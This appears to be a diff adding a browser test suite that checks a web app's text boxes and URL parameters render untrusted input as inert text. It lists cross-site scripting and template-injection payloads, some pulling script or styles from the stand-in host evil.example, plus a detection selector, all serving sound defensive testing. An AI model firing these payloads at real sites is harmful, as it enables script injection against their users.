@@ -1,0 +1,107 @@
+"""Untrusted text is text: payloads through every box of the page and through its links run nothing and ask nobody."""
+
+import time
+from urllib.parse import urlencode
+
+import pytest
+from browser import TITLE, open_tab
+
+pytestmark = pytest.mark.browser
+PAYLOADS = [
+    '<img src=x onerror="hit(1)">',
+    "<script>hit(2)</script>",
+    '"><svg/onload=hit(3)>',
+    "'-hit(4)-'${hit(4)}{{hit(4)}}",
+    "javascript:hit(5)",
+    '<iframe srcdoc="<script>parent.hit(6)</script>"></iframe>',
+    "</style></script></textarea><script src=//evil.example/7></script>",
+    '<a href="javascript:hit(8)" autofocus onfocus=hit(8)>x</a>',
+    "[x](javascript:hit(9)) ![y](http://evil.example/9.png)",
+    '<style>@import "//evil.example/10";</style><link rel=stylesheet href=//evil.example/10><base href=//evil.example/>',
+]
+VIEWS = [
+    ("Write",), ("Inside", "Letters"), ("Inside", "Neurons"), ("Inside", "RNN vs LSTM"), ("Check",),
+    ("Words", "Map"), ("Words", "Analogies"), ("Words", "Bias"),
+]  # fmt: skip
+BOXES = "textarea:visible, input[type=text]:visible, input:not([type]):visible"
+INJECTED = (
+    "script[src*=evil], link[href*=evil], base, iframe[srcdoc], a[href^=javascript], [onerror], [onfocus], [onload]"
+)
+
+
+class Watch:
+    """What a page's scripts did that no text may make them do, and whether it waits for answers."""
+
+    def __init__(self, page):
+        self.hits, self.waiting = [], set()
+        page.expose_function("hit", self.hits.append)
+        page.on("dialog", lambda dialog: (self.hits.append(dialog.message), dialog.dismiss()))
+        page.on("pageerror", lambda error: self.hits.append(str(error)))
+        page.on("console", lambda message: message.type == "error" and self.hits.append(message.text))
+        page.on("request", self._note)
+        for event in ("requestfinished", "requestfailed"):
+            page.on(event, self.waiting.discard)
+
+    def _note(self, request):
+        if "evil.example" in request.url:
+            self.hits.append(request.url)
+        if "/queue/data" in request.url or "component_server" in request.url:
+            self.waiting.add(request)
+
+    def settle(self, page) -> None:
+        """Waits until every answer has come, and nothing was asked for a moment."""
+        until = time.monotonic() + 60
+        quiet = 0
+        while quiet < 2:
+            page.wait_for_timeout(200)
+            quiet = 0 if self.waiting else quiet + 1
+            assert time.monotonic() < until, [request.url for request in self.waiting]
+
+    def assert_nothing_ran(self, page) -> None:
+        assert self.hits == []
+        assert page.locator(INJECTED).count() == 0 and page.title() == TITLE
+
+
+@pytest.fixture
+def own_page(browser):
+    """A page of its own, and a watch on it."""
+    page = browser.new_page()
+    page.set_default_timeout(30_000)
+    yield page, Watch(page)
+    page.close()
+
+
+@pytest.mark.parametrize("text", ["\n".join(PAYLOADS), PAYLOADS[0].replace(" ", "/")], ids=["all", "one word"])
+def test_markup_in_every_box_stays_text(own_page, app_url, text):
+    page, watch = own_page
+    page.goto(app_url)
+    page.get_by_role("tab", name="Write", exact=True).wait_for()
+    filled = 0
+    for names in VIEWS:
+        open_tab(page, *names)
+        page.wait_for_timeout(300)
+        for closed in page.locator("button.label-wrap:visible:not(.open)").all():
+            closed.click()
+        watch.settle(page)
+        for box in page.locator(BOXES).all():
+            if box.is_visible() and box.is_editable():
+                box.fill(text)
+                box.press("Enter")
+                filled += 1
+        for button in page.locator("button.primary:visible, button.secondary:visible").all():
+            if button.is_visible() and button.is_enabled():
+                button.click()
+        watch.settle(page)
+        watch.assert_nothing_ran(page)
+    assert filled > 20
+
+
+@pytest.mark.parametrize("first", [0, 3, 7])
+def test_markup_in_a_link_stays_text(own_page, app_url, first):
+    page, watch = own_page
+    names = ("text", "artist", "model", "t", "seed", "len", "tab", "view", "words", PAYLOADS[first])
+    values = {name: PAYLOADS[(first + number) % len(PAYLOADS)] for number, name in enumerate(names)}
+    page.goto(f"{app_url}/?{urlencode(values)}#{PAYLOADS[first]}")
+    page.get_by_role("tab", name="Write", exact=True).wait_for()
+    watch.settle(page)
+    watch.assert_nothing_ran(page)
